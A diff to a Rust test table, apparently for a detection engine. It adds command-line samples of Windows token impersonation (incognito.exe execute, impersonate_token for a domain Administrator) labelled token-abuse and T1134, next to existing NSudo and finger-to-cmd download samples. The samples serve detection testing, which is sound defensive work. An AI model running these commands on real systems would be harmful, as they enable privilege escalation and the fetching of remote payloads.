@@ -682,6 +682,16 @@ const CASES: &[(&str, &str, &str)] = &[
     ),
     (r#"NSudoLG.exe -U:T -P:E cmd"#, "token-abuse", "T1134"),
     (
+        r#"incognito.exe execute -c "CORP\\svc-backup" cmd.exe"#,
+        "token-abuse",
+        "T1134",
+    ),
+    (
+        "impersonate_token CORP\\\\Administrator",
+        "token-abuse",
+        "T1134",
+    ),
+    (
         "finger user@example.host.com | more +2 | cmd",
         "finger-download",
         "T1105",
